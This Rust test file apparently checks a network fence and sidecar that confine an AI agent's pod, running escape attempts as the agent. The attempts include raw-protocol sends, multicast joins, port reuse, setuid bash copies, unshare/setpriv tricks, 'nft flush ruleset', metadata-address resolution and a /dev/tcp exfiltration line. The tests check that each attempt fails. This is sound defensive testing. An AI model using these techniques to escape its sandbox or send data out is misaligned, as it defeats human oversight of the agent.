//! Ways round the sidecar, tried as the agent against the real fence and the real sidecar. The oracle is the wire: what
//! left the pod, below every rule. Each way is tried without a fence too, where it has to work.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

#[path = "fence/attacks.rs"]
mod attacks;

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::{PermissionsExt as _, chown};
use std::time::{Duration, Instant};

use e2e::objects;
use e2e::pod::{AGENT, HEALTH, INBOUND, OUTSIDE_V4, POD_V4, POD_V6, Packet, Pod, PodSidecar, SIDECAR, can_run, said};
use e2e::world::Policy;
use socket2::{Domain, Protocol, Socket, Type};

use attacks::{Attack, Ended, LEAK, V4, V6};

/// Where the only target is, as the sidecar knows it; nobody is there.
const TARGET: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
const PORT: u16 = 5_432;
const PATIENCE: Duration = Duration::from_secs(5);
/// After which the kernel has sent all reports of a join.
const REPORTS: Duration = Duration::from_millis(2_500);

fn sidecar(pod: &Pod) -> PodSidecar {
    let target = objects::target_at("db", "orders-db.example", PORT, None, "nobody", "nothing");
    pod.sidecar(&(target + &Policy::default().yaml()), &format!("{TARGET} orders-db.example\n")).unwrap()
}

fn fenced() -> (Pod, PodSidecar) {
    let pod = Pod::new().unwrap();
    pod.fence().unwrap();
    let sidecar = sidecar(&pod);
    pod.verify().unwrap();
    pod.settle().unwrap();
    pod.tap().forget();
    (pod, sidecar)
}

/// What left the pod since the last look.
fn left(pod: &Pod) -> Vec<Packet> {
    pod.settle().unwrap();
    let packets = pod.tap().packets();
    pod.tap().forget();
    packets
}

fn device(pod: &Pod) -> u32 {
    pod.shell("ip -o link show eth0 | cut -d: -f1").unwrap().trim().parse().unwrap()
}

/// All at once, as the agent.
fn tried(pod: &Pod, all: &[Attack]) -> Vec<Ended> {
    pod.within(AGENT, || {
        std::thread::scope(|scope| {
            let running: Vec<_> = all.iter().map(|attack| scope.spawn(&attack.run)).collect();
            running.into_iter().map(|one| one.join().unwrap()).collect()
        })
    })
    .unwrap()
}

#[test]
fn what_leaves_an_open_pod_does_not_leave_a_fenced_one() {
    if !can_run() {
        return;
    }
    let open = Pod::new().unwrap();
    let all = attacks::all(device(&open));
    let ends = tried(&open, &all);
    let seen = left(&open);
    for (attack, ended) in all.iter().zip(ends) {
        let missing = attack.needs_an_answer() && ended == Ended::NoProtocol;
        assert!(missing || seen.iter().any(|packet| attack.is(packet)), "{} without a fence: {ended:?}", attack.name);
    }

    let (pod, mut sidecar) = fenced();
    let all = attacks::all(device(&pod));
    for (attack, ended) in all.iter().zip(tried(&pod, &all)) {
        assert!(attack.ends.contains(&ended), "{}: {ended:?}", attack.name);
    }
    assert_eq!(left(&pod), []);
    // The loopback of IPv6 gone: what is redirected there has nowhere to go.
    pod.shell("ip -6 addr del ::1/128 dev lo").unwrap();
    tried(&pod, &attacks::bound_to_device());
    assert_eq!(left(&pod), []);
    // And with no sidecar at all.
    sidecar.kill9();
    for (attack, ended) in all.iter().zip(tried(&pod, &all)) {
        assert!(!matches!(ended, Ended::Sent | Ended::Answered), "{}, no sidecar: {ended:?}", attack.name);
    }
    assert_eq!(left(&pod), []);
}

/// Protocols that this kernel may have no sockets for, sent by hand, with more rights than any container of the pod has.
#[test]
fn no_other_protocol_of_ip_leaves() {
    if !can_run() {
        return;
    }
    let protocols: [u8; 8] = [4, 33, 41, 47, 50, 132, 136, 253];
    let send = || {
        let all = protocols.iter().flat_map(|number| [(IpAddr::V4(V4), *number), (V6.into(), *number)]);
        all.map(|(ip, number)| {
            let domain = if ip.is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
            let socket = Socket::new(domain, Type::RAW, Some(Protocol::from(i32::from(number)))).unwrap();
            let sent = socket.send_to(LEAK, &SocketAddr::new(ip, 0).into());
            (ip, number, sent.map_err(|error| error.kind()))
        })
        .collect::<Vec<_>>()
    };
    let open = Pod::new().unwrap();
    let tried = open.within(0, send).unwrap();
    let seen = left(&open);
    for (ip, number, sent) in tried {
        assert_eq!(sent, Ok(LEAK.len()), "{number} to {ip} without a fence");
        let is = |packet: &&Packet| (packet.protocol, packet.destination) == (number, Some(ip));
        assert!(seen.iter().any(|packet| is(&packet) && packet.contains(LEAK)), "{number} to {ip} without a fence");
    }
    let (pod, _sidecar) = fenced();
    for (ip, number, sent) in pod.within(0, send).unwrap() {
        assert_eq!(sent, Err(std::io::ErrorKind::PermissionDenied), "{number} to {ip}");
    }
    assert_eq!(left(&pod), []);
}

#[test]
fn the_sidecars_ports_cannot_be_dialled_straight() {
    if !can_run() {
        return;
    }
    let (pod, _sidecar) = fenced();
    for (place, tcp, udp) in pod.within(AGENT, attacks::straight).unwrap() {
        assert_eq!((tcp, udp), (Ended::Closed, Ended::Denied), "{place}");
    }
    // Nor from outside, but for health.
    let outside = |port| {
        let place = SocketAddr::new(POD_V4.parse().unwrap(), port);
        pod.without(|| TcpStream::connect_timeout(&place, Duration::from_millis(700)).is_ok()).unwrap()
    };
    assert_eq!([15_001, 15_053, HEALTH].map(outside), [false, false, true]);
}

#[test]
fn a_join_sends_no_report() {
    if !can_run() {
        return;
    }
    // The last bytes of the groups are the agent's own.
    let join = || {
        let v4 = UdpSocket::bind("0.0.0.0:0").unwrap();
        v4.join_multicast_v4(&Ipv4Addr::new(239, 76, 69, 75), &POD_V4.parse().unwrap()).unwrap();
        let v6 = UdpSocket::bind("[::]:0").unwrap();
        v6.join_multicast_v6(&"ff05::4c45:414b".parse().unwrap(), 0).unwrap();
        // Leaving is told too.
        drop((v4, v6));
        std::thread::sleep(REPORTS);
    };
    let told = |packets: &[Packet]| {
        [&[239, 76, 69, 75][..], &[0x4c, 0x45, 0x41, 0x4b]].map(|group| packets.iter().any(|p| p.contains(group)))
    };
    let open = Pod::new().unwrap();
    open.within(AGENT, join).unwrap();
    assert_eq!(told(&left(&open)), [true, true], "without a fence");
    let (pod, _sidecar) = fenced();
    pod.within(AGENT, join).unwrap();
    assert_eq!(left(&pod), []);
}

#[test]
fn a_port_that_the_sidecar_just_used_opens_nothing() {
    if !can_run() {
        return;
    }
    let (pod, _sidecar) = fenced();
    let server = pod.without(|| TcpListener::bind("0.0.0.0:9999").unwrap()).unwrap();
    // Answers have to come from the address that was asked, or there is no flow to slip into.
    pod.shell_outside(&format!("ip addr add {V4}/32 dev lo")).unwrap();
    let echo = pod.without(|| UdpSocket::bind((V4, 9_999)).unwrap()).unwrap();
    echo.set_read_timeout(Some(PATIENCE)).unwrap();
    let there = SocketAddr::new(V4.into(), 9_999);
    let answered = |from: &UdpSocket| {
        from.send_to(b"of the sidecar", there).unwrap();
        let (_, back) = echo.recv_from(&mut [0; 64]).unwrap();
        echo.send_to(b"answer", back).unwrap();
        from.set_read_timeout(Some(PATIENCE)).unwrap();
        from.recv_from(&mut [0; 64]).unwrap();
    };
    for round in 0..3 {
        // UDP: the same port, a flow that is seconds old.
        let port = pod
            .within(SIDECAR, || {
                let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
                answered(&socket);
                socket.local_addr().unwrap().port()
            })
            .unwrap();
        left(&pod);
        let sent = pod
            .within(AGENT, || UdpSocket::bind(("0.0.0.0", port)).unwrap().send_to(LEAK, there).map_err(|e| e.kind()))
            .unwrap();
        assert_eq!((sent, left(&pod)), (Err(std::io::ErrorKind::PermissionDenied), vec![]), "round {round}");
        // DNS of the sidecar, then of the agent, from the same port to the same resolver.
        let port = pod
            .within(SIDECAR, || {
                let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
                socket.send_to(b"query of the sidecar", (V4, 53)).unwrap();
                socket.local_addr().unwrap().port()
            })
            .unwrap();
        assert_eq!(left(&pod).len(), 1);
        pod.within(AGENT, || UdpSocket::bind(("0.0.0.0", port)).unwrap().send_to(LEAK, (V4, 53)).unwrap()).unwrap();
        assert_eq!(left(&pod), []);
        // TCP: the flow of a connection that was just closed.
        let port = pod
            .within(SIDECAR, || {
                let stream = TcpStream::connect(there).unwrap();
                let (mut other, _) = server.accept().unwrap();
                stream.shutdown(std::net::Shutdown::Write).unwrap();
                other.read_to_end(&mut Vec::new()).unwrap();
                stream.local_addr().unwrap().port()
            })
            .unwrap();
        left(&pod);
        let stream = pod
            .within(AGENT, || {
                let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP)).unwrap();
                socket.set_reuse_address(true).unwrap();
                let mine = SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), port);
                socket.bind(&mine.into())?;
                socket.connect_timeout(&there.into(), Duration::from_millis(700))?;
                socket.send(LEAK)
            })
            .unwrap();
        let out = left(&pod);
        assert!(out.iter().all(|packet| !is_syn(packet) && !packet.contains(LEAK)), "{stream:?}: {out:?}");
    }
}

fn is_syn(packet: &Packet) -> bool {
    packet.protocol == 6 && packet.payload.get(13).is_some_and(|flags| flags & 2 != 0)
}

#[test]
fn who_knocks_from_outside_hears_nothing() {
    if !can_run() {
        return;
    }
    let (pod, _sidecar) = fenced();
    let listen = |port| pod.within(AGENT, || TcpListener::bind(("0.0.0.0", port)).unwrap()).unwrap();
    let (closed, declared) = (listen(9_999), listen(INBOUND));
    let udp = pod.within(AGENT, || UdpSocket::bind("[::]:9999").unwrap()).unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
    let knock = |port| {
        let place = SocketAddr::new(POD_V4.parse().unwrap(), port);
        pod.without(|| TcpStream::connect_timeout(&place, Duration::from_millis(700)).map_err(|e| e.kind())).unwrap()
    };
    assert_eq!(knock(9_999).unwrap_err(), std::io::ErrorKind::TimedOut);
    assert_eq!(knock(9_998).unwrap_err(), std::io::ErrorKind::TimedOut);
    for ip in [POD_V4, POD_V6].map(|ip| ip.parse::<IpAddr>().unwrap()) {
        let from = if ip.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
        pod.without(|| UdpSocket::bind(from).unwrap().send_to(b"knock", (ip, 9_999)).unwrap()).unwrap();
    }
    pod.shell_outside("ip neigh flush all").unwrap();
    assert!(udp.recv_from(&mut [0; 64]).is_err());
    closed.set_nonblocking(true).unwrap();
    assert!(closed.accept().is_err());
    assert_eq!(left(&pod), []);
    // What is declared is open, and says how a knock looks that is answered.
    let mut stream = knock(INBOUND).unwrap();
    declared.accept().unwrap().0.write_all(b"welcome").unwrap();
    let mut heard = [0; 7];
    stream.read_exact(&mut heard).unwrap();
    assert_eq!(&heard, b"welcome");
}

/// Says the payload to [`V4`], port 7, without a program of ours.
fn shout() -> String {
    format!("echo {} >/dev/tcp/{V4}/7", String::from_utf8_lossy(LEAK))
}

#[test]
fn nobody_becomes_the_sidecar_or_takes_the_fence_down() {
    if !can_run() {
        return;
    }
    let (pod, _sidecar) = fenced();
    let rules = || pod.shell("nft -s list ruleset").unwrap();
    let before = rules();

    // A program that is the sidecar's user, as an image could bring it.
    let folder = tempfile::tempdir().unwrap();
    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let program = folder.path().join("shell");
    fs::copy("/bin/bash", &program).unwrap();
    chown(&program, Some(SIDECAR), None).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o4755)).unwrap();
    let out = pod.command(AGENT, &program).args(["-p", "-c", &shout()]).output().unwrap();
    assert_eq!(left(&pod), [], "{}", said(&out));
    // Without no_new_privs it gets out: admission has to see to that, and the user's number be nobody's guess.
    let shell = format!("setpriv --reuid {AGENT} --clear-groups {} -p -c '{}' || true", program.display(), shout());
    pod.shell(&shell).unwrap();
    assert!(left(&pod).iter().any(is_syn), "a file of the sidecar's user gets out");

    // A mark of the sidecar's flows on the packets of root itself.
    pod.within(0, || {
        for (kind, protocol) in [(Type::DGRAM, Protocol::UDP), (Type::STREAM, Protocol::TCP)] {
            let socket = Socket::new(Domain::IPV4, kind, Some(protocol)).unwrap();
            socket.set_mark(0x0a11_0ced).unwrap();
            let _refused = socket.connect_timeout(&SocketAddr::new(V4.into(), 443).into(), Duration::from_millis(500));
            let _refused = socket.send(LEAK);
        }
    })
    .unwrap();
    assert_eq!(left(&pod), []);

    // Users and namespaces.
    let nft = "nft flush ruleset";
    let sidecar = SIDECAR.to_string();
    let tries: [&[&str]; 6] = [
        &["nft", "flush", "ruleset"],
        &["unshare", "-Ur", "sh", "-c", nft],
        &["setpriv", "--reuid", &sidecar, "bash", "-c", &shout()],
        &["setpriv", "--reuid", "0", "sh", "-c", nft],
        &["unshare", "-Ur", "bash", "-c", &shout()],
        &["unshare", &format!("--map-user={SIDECAR}"), "bash", "-c", &shout()],
    ];
    for arguments in tries {
        let [program, rest @ ..] = arguments else { panic!("nothing to try") };
        let out = pod.command(AGENT, program).args(rest).output().unwrap();
        assert_eq!(left(&pod), [], "{arguments:?}: {}", said(&out));
        assert_eq!(rules(), before, "{arguments:?}: {}", said(&out));
    }
    let id = pod.command(AGENT, "unshare").args([&format!("--map-user={SIDECAR}"), "id", "-u"]).output().unwrap();
    assert!(!id.status.success() || said(&id).trim() == sidecar, "{}", said(&id));
    pod.verify().unwrap();
}

#[test]
fn nothing_that_is_said_leads_anywhere() {
    if !can_run() {
        return;
    }
    let (pod, sidecar) = fenced();
    let synthetic = synthetic(&sidecar);
    // A ClientHello and an HTTP request for the target, to the attacker's address and to the target's real one: a name
    // in the bytes opens nothing, nor does an address that only the sidecar may know.
    let hello = [b"\x16\x03\x01\x00\x40\x01\x00\x00\x3c\x03\x03".as_slice(), &[7; 32], b"orders-db.example"].concat();
    let requests: [&[u8]; 3] =
        [&hello, b"GET / HTTP/1.1\r\nHost: orders-db.example\r\n\r\n", b"CONNECT orders-db.example:5432\r\n\r\n"];
    for place in [IpAddr::V4(V4), V6.into(), TARGET.into(), OUTSIDE_V4.parse().unwrap()] {
        for request in requests {
            assert!(answer(&pod, (place, PORT).into(), request).is_err(), "{place}");
        }
    }
    // Garbage at the target's own address and port: closed, and the target is never dialled.
    for garbage in [b"\0\0\0\0\0\0\0\0".as_slice(), &[0xff; 64], b"SSH-2.0-x\r\n", requests[1]] {
        let heard = answer(&pod, (synthetic, PORT).into(), garbage).unwrap_or_default();
        assert!(heard.first().is_none_or(|first| *first == b'E'), "{heard:?}");
    }
    // Silence is closed when the time of a handshake is over.
    let begun = Instant::now();
    assert!(answer(&pod, (synthetic, PORT).into(), b"").is_ok_and(|heard| heard.is_empty() || heard.starts_with(b"E")));
    assert!(begun.elapsed() > Duration::from_secs(2), "{:?}", begun.elapsed());
    assert_eq!(left(&pod), []);
}

/// The address of the target's name.
fn synthetic(sidecar: &PodSidecar) -> IpAddr {
    let list = fs::read_to_string(sidecar.addresses()).unwrap();
    let (address, name) = list.trim().split_once(' ').unwrap();
    assert_eq!(name, "orders-db.example");
    address.parse().unwrap()
}

/// Everything that comes back until the end.
fn answer(pod: &Pod, place: SocketAddr, request: &[u8]) -> std::io::Result<Vec<u8>> {
    pod.within(AGENT, || {
        let mut stream = TcpStream::connect_timeout(&place, PATIENCE)?;
        stream.set_read_timeout(Some(Duration::from_secs(20)))?;
        stream.write_all(request)?;
        let mut heard = Vec::new();
        stream.read_to_end(&mut heard)?;
        Ok(heard)
    })
    .unwrap()
}

#[test]
fn a_name_that_resolves_into_the_pod_or_to_the_link_is_not_dialled() {
    if !can_run() {
        return;
    }
    let (pod, sidecar) = fenced();
    let synthetic = synthetic(&sidecar);
    // Of the agent, everywhere in the pod.
    let trap = pod.within(AGENT, || TcpListener::bind(("::", PORT)).unwrap()).unwrap();
    trap.set_nonblocking(true).unwrap();
    let startup = b"\0\0\0\x23\0\x03\0\0user\0anybody\0database\0app\0\0";
    let ask = |address: &str| {
        sidecar.set_hosts(&format!("{address} orders-db.example\n")).unwrap();
        String::from_utf8_lossy(&answer(&pod, (synthetic, PORT).into(), startup).unwrap_or_default()).into_owned()
    };
    for address in [
        "127.0.0.1",
        "127.9.9.9",
        "::1",
        "::ffff:127.0.0.1",
        "0.0.0.0",
        "::",
        POD_V4,
        POD_V6,
        "169.254.169.254",
        "::ffff:169.254.169.254",
        "fe80::1",
        "fd00:ec2::254",
        "64:ff9b::a9fe:a9fe",
        "198.18.0.1",
        "224.0.0.1",
        "ff02::1",
    ] {
        let said = ask(address);
        assert!(said.contains("it cannot be reached"), "{address}: {said}");
        assert!(trap.accept().is_err(), "{address}: the agent's trap was dialled");
        assert_eq!(left(&pod), [], "{address}");
    }
    // The same name, elsewhere, is dialled: the tests above can fail.
    ask(&TARGET.to_string());
    assert!(left(&pod).iter().any(|packet| packet.destination == Some(TARGET.into()) && is_syn(packet)));
}
